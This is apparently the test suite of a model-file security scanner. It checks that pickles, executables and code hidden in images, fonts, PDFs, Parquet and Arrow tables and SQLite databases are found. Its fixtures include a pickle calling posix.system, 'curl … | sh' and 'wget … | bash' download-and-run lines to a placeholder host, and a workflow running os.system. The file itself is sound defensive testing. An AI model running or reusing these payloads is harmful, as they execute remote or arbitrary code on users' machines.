from __future__ import annotations

import base64
import gzip
import io
import pickle
import sqlite3
import struct
import zipfile
import zlib
from contextlib import closing, suppress
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from builders.executable_files import build_elf_library
from builders.media_files import (
    build_arrow,
    build_font,
    build_gif,
    build_jpeg,
    build_mp4,
    build_parquet,
    build_pdf,
    build_png,
    build_riff,
    build_schema_footer,
    build_sqlite,
    build_type_schema,
)
from builders.payloads import EVAL_ONE
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cases import check_each

import modelaudit
from modelaudit.formats.documents.media.content_starts import list_starts
from modelaudit.formats.registry import find_reader
from modelaudit.model.artifact import Artifact
from modelaudit.model.errors import WindowError
from modelaudit.model.limits import Limits
from modelaudit.model.outline import Outline
from modelaudit.model.pickle import Act, PickleProgram
from modelaudit.model.structure import UnreadReason
from modelaudit.wire.base import DamagedError

MEDIA = {
    "PNG image": build_png(), "JPEG image": build_jpeg(), "GIF image": build_gif(), "WebP image": build_riff(b"WEBP"), "WAV audio": build_riff(b"WAVE"),
    "MP4 media": build_mp4(), "Parquet table": build_parquet(), "SQLite database": build_sqlite(), "typeface": build_font(), "PDF document": build_pdf(),
}  # fmt: skip
# The formats whose end the reader finds without the last bytes of the file.
BOUNDED = [name for name in MEDIA if name not in ("PDF document", "Parquet table")]


def get_kind(reading) -> str:
    """Return the kind of media in the first outline."""
    return dict(reading.of(Outline)[0].facts)["kind"]


@check_each("name", MEDIA)
def test_media_under_the_name_model_bin_are_recognised_by_their_bytes(name, read_bytes):
    reading = read_bytes(MEDIA[name], "model.bin")
    assert get_kind(reading) == name
    assert not reading.unread
    assert list(reading.formats) == ["model.bin"]


def test_magic_of_tar_near_the_start_of_a_page_begins_no_archive_before_the_page():
    assert list_starts(b"\0" * 256 + b"ustar") == []
    assert list_starts(b"\0" * 257 + b"ustar") == [0]


@check_each("name", BOUNDED)
def test_truncated_media_other_than_pdf_and_parquet_are_reported_as_damaged(name, read_bytes):
    reading = read_bytes(MEDIA[name][:-1], "x")
    assert get_kind(reading) == name
    assert UnreadReason.DAMAGED in reading.reasons()


@check_each("name", BOUNDED)
@check_each("bytes_between", [b"", bytes(64), b"some words first\n"])
def test_pickle_after_the_end_of_media_other_than_pdf_and_parquet_is_read(name, bytes_between, read_bytes):
    assert read_bytes(MEDIA[name] + bytes_between + EVAL_ONE, "x").evaluates


# Of a Parquet table, the last bytes of the file are the footer.
@check_each("name", [name for name in MEDIA if name != "Parquet table"])
def test_bytes_after_the_end_of_media_other_than_parquet_are_unclaimed(name, read_bytes):
    appended = b"\1\2\3" * 4
    reading = read_bytes(MEDIA[name] + appended, "x")
    expected = f"bytes {len(MEDIA[name])}-{len(MEDIA[name] + appended) - 1}"
    assert [expected in unread.detail for _, unread in reading.inner.unread] == [True]


def test_bytes_between_a_pdf_and_its_incremental_update_are_unclaimed(read_bytes):
    update = b"2 0 obj\n<< >>\nendobj\n%%EOF\n"
    assert not read_bytes(build_pdf() + update, "x").unread
    assert UnreadReason.UNCLAIMED in read_bytes(build_pdf() + b"\x01" + update, "x").reasons()


def test_nonzero_bytes_between_the_directory_and_the_table_of_a_font_file_are_unclaimed(read_bytes):
    # A font of one table, "head", which takes four bytes at byte 32. The directory ends at byte 28.
    directory = b"\0\1\0\0" + struct.pack(">H6x4s4xII", 1, b"head", 32, 4)
    assert read_bytes(directory + b"\1\2\3\4" + b"data", "x").reasons() == {UnreadReason.UNCLAIMED}
    assert not read_bytes(directory + bytes(4) + b"data", "x").unread


def test_program_after_the_end_of_a_media_file_is_reported(read_bytes):
    reading = read_bytes(build_png() + bytes(100) + build_elf_library(), "logo.png")
    assert [each.format for each in reading.of(Outline)] == ["media", "executable"]


def test_pickle_in_media_without_known_end_is_found(read_bytes):
    flac = b"fLaC\0\0\0\x22" + bytes(34)  # the magic number, and a block of 34 (0x22) bytes
    assert read_bytes(flac + EVAL_ONE, "x").evaluates


def test_pickle_in_damaged_media_is_found(read_bytes):
    assert read_bytes(build_png()[:20] + EVAL_ONE, "x").evaluates


def test_progressive_jpeg_is_parsed_to_its_end_and_the_bytes_after_it_are_unclaimed(read_bytes):
    # A progressive image has several scans, each with a table before it. Their data exceed one chunk of the reader.
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0" + b"\x12\xff\0\x34" * 300_000
    table = b"\xff\xc4" + struct.pack(">H", 4) + b"\0\0"
    data = build_jpeg()[:-2] + (table + scan) * 2 + b"\xff\xd9"
    reading = read_bytes(data + EVAL_ONE, "x")
    assert get_kind(reading) == "JPEG image"
    assert reading.reasons() == {UnreadReason.UNCLAIMED}
    assert reading.evaluates
    assert UnreadReason.DAMAGED in read_bytes(data[:-2], "x").reasons()


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        (b"/S /JavaScript", {"JavaScript"}), (b"/S /J#61vaScript /JS 3 0 R", {"JavaScript", "JS"}),
        (b"/S /Launch", {"Launch"}), (b"/Launcher /JSON (JavaScript)", set()), (b"/S /URI", set()),
    ],
)  # fmt: skip
def test_pdf_actions_launch_and_plain_or_escaped_javascript_are_mentioned_and_uri_is_not(action, expected, read_bytes):
    (outline,) = read_bytes(build_pdf(action), "card.pdf").of(Outline)
    assert {mention.name for mention in outline.mentions} == expected


def test_pdf_action_in_an_object_stream_that_is_a_compression_bomb_is_mentioned(read_bytes):
    bomb = zlib.compress(b"<< /S /Launch >>" + bytes(50_000_000))
    data = build_pdf() + b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + bomb + b"\nendstream\n"
    (outline,) = read_bytes(data, "card.pdf").of(Outline)
    assert {mention.name for mention in outline.mentions} == {"Launch"}


def build_object_stream(stored: bytes, type_: bytes = b"/ObjStm") -> bytes:
    """Return a PDF document with one stream of compressed objects.

    Args:
        stored: the bytes of the stream.
        type_: the name of its type, as it is spelled in the document.
    """
    return (
        build_pdf() + b"3 0 obj\n<< /Type " + type_ + b" /Filter /FlateDecode >>\nstream\n" + stored + b"\nendstream\n"
    )


def list_actions(reading) -> set[str]:
    """Return the name of each action in the outline of a PDF document."""
    return {mention.name for outline in reading.of(Outline) for mention in outline.mentions}


def test_pdf_actions_in_an_object_stream_with_an_escaped_type_are_found(read_bytes):
    stored = zlib.compress(b"<< /S /Launch >>")
    for type_ in (b"/ObjStm", b"/Obj#53tm", b"/#4f#62#6A#53#74#6D"):
        assert list_actions(read_bytes(build_object_stream(stored, type_), "card.pdf")) == {"Launch"}


def test_pdf_action_before_damage_in_an_object_stream_is_mentioned(read_bytes):
    stored = bytearray(zlib.compress(b"<< /S /Launch >>"))
    stored[-1] ^= 0xFF
    assert list_actions(read_bytes(build_object_stream(bytes(stored)), "card.pdf")) == {"Launch"}


def test_pdf_object_stream_that_cannot_be_searched_to_its_end_is_reported_as_unread(read_bytes):
    assert not read_bytes(build_pdf(), "card.pdf").unread
    too_long = build_object_stream(zlib.compress(bytes(5_000_000)))
    assert UnreadReason.LIMIT in read_bytes(too_long, "card.pdf").reasons()
    too_many = build_pdf() + build_object_stream(zlib.compress(b"<< >>")) * 2001
    assert UnreadReason.LIMIT in read_bytes(too_many, "card.pdf").reasons()
    encrypted = build_object_stream(b"\x01\x02\x03\x04")
    assert any("encrypted, damaged or in a filter" in detail for detail in read_bytes(encrypted, "card.pdf").details)


def test_security_scan_of_ordinary_media_files_passes(tmp_path):
    for number, data in enumerate(MEDIA.values()):
        (tmp_path / f"file-{number}").write_bytes(data)
    assert modelaudit.scan(tmp_path, second_opinion=False, checks=["security"]).exit_code == 0


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(list(MEDIA.values())), st.data())
def test_mutated_media_never_crash_the_reader(bytes_window, seed, data):
    # Any error that the reader does not report as damage or as a limit fails the test.
    # The magic number, the first four bytes, stays.
    start, end = data.draw(st.integers(4, len(seed))), data.draw(st.integers(4, len(seed)))
    mutated = seed[:start] + data.draw(st.binary(max_size=12)) + seed[end:]
    with suppress(DamagedError, WindowError):
        list(find_reader("media").read(Artifact("x", len(mutated), lambda: None), bytes_window(mutated), Limits()))


def test_bitmap_that_is_also_a_protocol_buffer_is_reported_as_unread(read_bytes):
    # "B" begins field 8 of a protocol buffer, and "M" is its length: 77 bytes of the bitmap. Other fields follow.
    bitmap = struct.pack("<2sI4xII", b"BM", 0, 54, 40).ljust(79, b"\0")
    fields = b"\x0a\x0a\x0a\x08\x12\x06secret"
    assert ["protocol buffer" in detail for detail in read_bytes(bitmap + fields, "logo.bmp").details] == [True]
    # One more byte of zero is not a field.
    assert read_bytes(bitmap + fields + b"\0", "logo.bmp").details == []


def build_old_arrow(schema: bytes) -> bytes:
    """Return an Arrow file before version 0.15, whose first message has no mark, with a footer of zeros."""
    message = struct.pack("<I", len(schema)) + schema
    return b"ARROW1\0\0" + message + bytes(16) + struct.pack("<I", 16) + b"ARROW1"


TABLES = {
    "types.parquet": lambda pickled: build_parquet(build_schema_footer(build_type_schema(pickled))),
    "types.arrow": lambda pickled: build_arrow(build_type_schema(pickled)),
    "old.feather": lambda pickled: build_old_arrow(build_type_schema(pickled)),
}


@check_each("name", TABLES)
def test_pickle_of_a_type_in_the_schema_of_a_table_is_read(name, read_bytes):
    assert read_bytes(TABLES[name](EVAL_ONE), name).evaluates


@check_each("name", TABLES)
def test_type_of_python_in_a_table_whose_pickle_is_not_found_is_reported_as_unread(name, read_bytes):
    detail = "the schema has a type arrow.py_extension_type, whose pickle was not found"
    assert set(read_bytes(TABLES[name](b"no pickle"), name).details) == {detail}


@pytest.mark.parametrize("start", [b"", b"N0"])
def test_pickle_in_a_table_of_an_sqlite_database_is_read(start, tmp_path, read_bytes):
    # A file, because ``serialize`` of a database in memory is not in every build of SQLite.
    with closing(sqlite3.connect(tmp_path / "cache.db")) as database:
        database.execute("CREATE TABLE unnamed (key TEXT PRIMARY KEY, value BLOB)")
        value = pickle.dumps([1, 2]) if not start else b""
        database.execute("INSERT INTO unnamed VALUES ('a', ?)", (value + start + EVAL_ONE,))
        database.commit()
    assert read_bytes((tmp_path / "cache.db").read_bytes(), "cache.db").evaluates


@check_each(
    "names",
    [
        b"U\x05posixU\x06system\x93",
        b"X\x05\0\0\0posixX\x06\0\0\0system\x93",
        b"Vsystem\nq\0000Vposix\nh\0N0\x93",
        b"C\1aq\x05Vposix\nVsystem\n\x93",
        b"X\x05\0\0\0posixX\x06\0\0\0systemq\x80\x93",
        b"X\x05\0\0\0posixX\x06\0\0\0systemr\0\0\xe2\x80\x93",
        b"X\x06\0\0\0systemr\0\0\xe2\x800X\x05\0\0\0posixj\0\0\xe2\x80\x93",
    ],
)
def test_pickle_in_a_blob_of_an_sqlite_database_is_read_whatever_its_first_opcode_and_the_constants_of_its_names(
    names, tmp_path, read_bytes
):
    program = b"N0" + names + b"U\x04echo\x85R."
    events = read_bytes(build_database(tmp_path, program), "cache.db").of(PickleProgram)[0].events
    assert [event.act for event in events] == [Act.IMPORT, Act.CALL]


def test_sqlite_database_of_texts_and_bytes_without_a_pickle_has_nothing_embedded(tmp_path, read_bytes):
    with closing(sqlite3.connect(tmp_path / "index.db")) as database:
        database.execute("CREATE TABLE documents (key INTEGER PRIMARY KEY, text TEXT, vector BLOB)")
        rows = [(f"import os\nprint({n})\n", struct.pack("<8f", *range(n, n + 8))) for n in range(300)]
        database.executemany("INSERT INTO documents (text, vector) VALUES (?, ?)", rows)
        database.commit()
    reading = read_bytes((tmp_path / "index.db").read_bytes(), "index.db")
    assert list(reading.formats) == ["index.db"]
    assert reading.unread == []


def build_database(folder: Path, value: str | bytes, *statements: str, page_size: int = 4096) -> bytes:
    """Return a database with a table of 30 short texts and ``value``, on which further statements were executed."""
    path = folder / "made.db"
    path.unlink(missing_ok=True)
    with closing(sqlite3.connect(path)) as database:
        # What is deleted stays in the file.
        database.executescript(f"PRAGMA page_size = {page_size}; PRAGMA secure_delete = OFF; CREATE TABLE t (a, b)")
        database.executemany("INSERT INTO t VALUES (?, ?)", [(n, f"text {n}") for n in range(30)])
        database.execute("INSERT INTO t VALUES (100, ?)", (value,))
        for statement in statements:
            database.execute(statement)
        database.commit()
    return path.read_bytes()


def build_zip_of_a_pickle(padding: bytes) -> bytes:
    """Return an archive with ``padding`` as its first member, and a pickle that evaluates a text."""
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        archive.writestr("padding", padding)
        archive.writestr("data.pkl", EVAL_ONE)
    return stored.getvalue()


NOISE = bytes(zlib.crc32(bytes((n % 256, n // 256))) & 0xFF for n in range(9000))
LONG_PICKLE = pickle.dumps(NOISE)[:-1] + b"0" + EVAL_ONE[2:]
EVALUATING_VALUES = {
    "gzip": gzip.compress(EVAL_ONE),
    "zlib with a small window": (lambda packer: packer.compress(EVAL_ONE) + packer.flush())(zlib.compressobj(9, 8, 9)),
    "zip": build_zip_of_a_pickle(b""),
    "Base64": base64.b64encode(EVAL_ONE + bytes(20)).decode(),
    "hexadecimal digits": (EVAL_ONE + bytes(20)).hex(),
}
LONG_VALUES = {
    "pickle": LONG_PICKLE,
    "pickle behind other bytes": NOISE[:100] + LONG_PICKLE,
    "zip": build_zip_of_a_pickle(NOISE),
    "gzip": gzip.compress(LONG_PICKLE),
    "Base64": base64.b64encode(LONG_PICKLE).decode(),
}


@check_each("name", EVALUATING_VALUES)
def test_content_of_a_short_value_of_an_sqlite_database_is_read(name, tmp_path, read_bytes):
    assert read_bytes(build_database(tmp_path, EVALUATING_VALUES[name]), "cache.db").evaluates


@pytest.mark.parametrize("page_size", [512, 4096, 65536])
@check_each("name", LONG_VALUES)
def test_value_of_an_sqlite_database_is_read_across_its_overflow_pages(name, page_size, tmp_path, read_bytes):
    value = LONG_VALUES[name] if page_size < 65536 or name != "zip" else build_zip_of_a_pickle(NOISE * 9)
    assert read_bytes(build_database(tmp_path, value, page_size=page_size), "cache.db").evaluates


@check_each("name", LONG_VALUES)
def test_value_in_an_index_of_an_sqlite_database_is_read(name, tmp_path, read_bytes):
    create = "CREATE TABLE u (a, b, PRIMARY KEY (b, a)) WITHOUT ROWID"
    data = build_database(tmp_path, LONG_VALUES[name], create, "INSERT INTO u SELECT * FROM t", "DROP TABLE t")
    assert read_bytes(data, "cache.db").evaluates


@check_each("name", ["gzip", "zip"])
def test_value_of_a_table_that_was_deleted_from_an_sqlite_database_is_read(name, tmp_path, read_bytes):
    assert read_bytes(build_database(tmp_path, EVALUATING_VALUES[name], "DROP TABLE t"), "cache.db").evaluates


@pytest.mark.parametrize("value", [build_elf_library(), build_elf_library() + bytes(9000)])
def test_program_in_a_value_of_an_sqlite_database_is_reported(value, tmp_path):
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "index.db").write_bytes(build_database(tmp_path, value))
    report = modelaudit.scan(tmp_path / "model", second_opinion=False)
    assert "format/executable" in {finding.rule for finding in report.findings}
    assert report.exit_code == 1


@pytest.mark.parametrize(
    "value", ["#!/bin/sh\ncurl http://a.example/x | sh\n", b"#!/usr/bin/env bash\nwget -O- a.example/x | bash\n"]
)
def test_shell_script_in_a_value_of_an_sqlite_database_is_judged(value, tmp_path):
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "index.db").write_bytes(build_database(tmp_path, value))
    report = modelaudit.scan(tmp_path / "model", second_opinion=False)
    assert "shell/download-and-run" in {finding.rule for finding in report.findings}


def test_sqlite_database_of_documents_and_long_vectors_has_nothing_embedded(tmp_path, read_bytes):
    source = "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['ls'])\n" * 300
    documents = [
        source,
        '{"id": "' + "a1" * 40 + '"}',
        "https://a.example/" + "x" * 60,
        NOISE,
        gzip.compress(source.encode()),
    ]
    with closing(sqlite3.connect(tmp_path / "index.db")) as database:
        database.execute("CREATE VIRTUAL TABLE words USING fts5(text)")
        database.execute("CREATE TABLE documents (text, vector BLOB)")
        for document in documents:
            database.execute("INSERT INTO documents VALUES (?, ?)", (document, struct.pack("<1536f", *range(1536))))
            database.execute("INSERT INTO words VALUES (?)", (source,))
        database.execute("DELETE FROM documents WHERE rowid = 1")
        database.commit()
    reading = read_bytes((tmp_path / "index.db").read_bytes(), "index.db")
    assert list(reading.formats) == ["index.db"]
    assert reading.unread == []


def test_cells_that_overlap_in_a_page_end_at_a_bound(read_bytes):
    page_size, pointers = 4096, 500
    header = bytearray(page_size)
    header[:22] = b"SQLite format 3\0" + page_size.to_bytes(2, "big") + b"\1\1\0\x40"
    header[100] = 0x0D  # a leaf of a table, without cells
    page = bytearray(page_size)
    first_cell, record_header_bytes = 8 + 2 * pointers, 2_000
    page[:5] = b"\x0d\0\0" + pointers.to_bytes(2, "big")
    for index in range(pointers):  # each cell begins one byte behind the one before
        page[8 + 2 * index : 10 + 2 * index] = (first_cell + 2 * index).to_bytes(2, "big")
    # Each two bytes are a size of 1,928 bytes or more, and inside a record header the serial type of an empty blob.
    page[first_cell : first_cell + record_header_bytes] = b"\x8f\x08" * (record_header_bytes // 2)
    page[-8:-4] = b"\x1f\x8b\x08\0"
    reading = read_bytes(bytes(header + page), "overlap.db")
    assert any("cells overlap" in detail for detail in reading.details)


def test_chains_of_overflow_pages_that_meet_end_at_a_bound(tmp_path, read_bytes):
    with closing(sqlite3.connect(tmp_path / "loop.db")) as database:
        database.executescript("PRAGMA page_size = 512; CREATE TABLE t (a)")
        database.executemany("INSERT INTO t VALUES (?)", [(bytes(20_000),) for _ in range(20)])
        database.commit()
    data = bytearray((tmp_path / "loop.db").read_bytes())
    chained = [start for start in range(0, len(data), 512) if data[start] == 0]
    for start in chained:  # each overflow page continues on the first one
        data[start : start + 4] = (chained[0] // 512 + 1).to_bytes(4, "big")
    # Each value is stated to have 4,000 more pages. Numbers of three bytes have seven bits in each.
    for start in range(512, len(data), 512):
        if data[start] == 0x0D:
            position = start + int.from_bytes(data[start + 8 : start + 10], "big")
            size = (data[position] & 127) << 14 | (data[position + 1] & 127) << 7 | data[position + 2]
            size += 4_000 * (512 - 4)
            data[position : position + 3] = bytes((size >> 14 | 128, size >> 7 & 127 | 128, size & 127))
    assert any("overflow pages" in detail for detail in read_bytes(bytes(data), "loop.db").details)


@cache
def build_mutable_database() -> bytes:
    """Return a database with values on one page and on several."""
    with TemporaryDirectory() as folder:
        return build_database(Path(folder), LONG_PICKLE, "CREATE INDEX i ON t (b)", page_size=512)


@settings(max_examples=100, deadline=None)
@given(st.integers(100, 16_000), st.binary(min_size=1, max_size=64))
def test_mutated_sqlite_database_never_crashes_the_reader(bytes_window, offset, patch):
    seed = build_mutable_database()
    mutated = seed[:offset] + patch + seed[offset + len(patch) :]
    with suppress(DamagedError, WindowError):
        list(find_reader("media").read(Artifact("x", len(mutated), lambda: None), bytes_window(mutated), Limits()))


WORKFLOW = b'{"nodes": [{"type": "PythonExec", "widgets_values": ["import os\\nos.system(\'id\')"]}]}'


def add_png_chunk(kind: bytes, data: bytes) -> bytes:
    """Return an image with one further chunk behind its header."""
    image = build_png()
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return image[:33] + chunk + image[33:]


def build_texts(text: bytes) -> dict[str, bytes]:
    """Return a picture for each place in which a text may be."""
    exif = b"II*\0" + b"workflow:" + text + b"\0"
    wide = b"UNICODE\0" + text.decode().encode("utf-16-le")
    return {
        "tEXt": add_png_chunk(b"tEXt", b"workflow\0" + text),
        "zTXt": add_png_chunk(b"zTXt", b"workflow\0\0" + zlib.compress(text)),
        "iTXt": add_png_chunk(b"iTXt", b"workflow\0\1\0en\0k\0" + zlib.compress(text)),
        "APP1": b"\xff\xd8\xff\xe1" + (2 + len(exif)).to_bytes(2, "big") + exif + build_jpeg()[2:],
        "COM": b"\xff\xd8\xff\xfe" + (2 + len(wide)).to_bytes(2, "big") + wide + build_jpeg()[2:],
    }


@check_each("place", [*build_texts(b"{}")])
def test_workflow_in_the_text_of_a_picture_is_judged_like_one_in_a_file(place, tmp_path):
    for text, is_found in ((WORKFLOW, True), (b'{"nodes": [{"type": "KSampler", "widgets_values": [4]}]}', False)):
        (tmp_path / "example.png").write_bytes(build_texts(text)[place])
        report = modelaudit.scan(tmp_path, checks=["security"], second_opinion=False, offline=True)
        rules = {each.rule for each in report.findings}
        assert ("configuration/code-value" in rules) == is_found


def test_damaged_text_of_a_picture_is_an_absence(read_bytes):
    reading = read_bytes(add_png_chunk(b"zTXt", b"workflow\0\0no stream"), "example.png")
    assert UnreadReason.LIMIT in reading.reasons()


_PILLOW_FONT = b"PILfont\n;;;;;;9;\nnotice=Public domain\nDATA\n" + struct.pack(">2560h", *range(-1280, 1280))


def test_typeface_of_pillow_is_read_to_its_end(read_bytes):
    reading = read_bytes(_PILLOW_FONT, "courier-8.pil.1")
    assert reading.formats["courier-8.pil.1"] == ["media"]
    assert not reading.inner.unread
    for length in (1, 20, 5119):
        assert UnreadReason.DAMAGED in read_bytes(_PILLOW_FONT[:-length], "a.pil").reasons()
    assert UnreadReason.UNCLAIMED in read_bytes(_PILLOW_FONT + b"\1\2", "a.pil").reasons()


@pytest.mark.parametrize("place", [45, 200, 3000, len(_PILLOW_FONT)])
def test_pickle_in_and_behind_a_typeface_of_pillow_is_found(place, read_bytes):
    data = _PILLOW_FONT[:place] + EVAL_ONE + _PILLOW_FONT[place:]
    assert read_bytes(data if place == len(_PILLOW_FONT) else data[: len(_PILLOW_FONT)], "a.pil").evaluates


@pytest.mark.parametrize(("old", "new"), [(b";9;", b";x;"), (b"DATA\n", b"DATE\n"), (b"Public", b"Publi\0")])
def test_head_of_another_form_is_no_typeface_of_pillow(old, new, read_bytes):
    assert read_bytes(_PILLOW_FONT.replace(old, new, 1), "a.pil").inner.unread
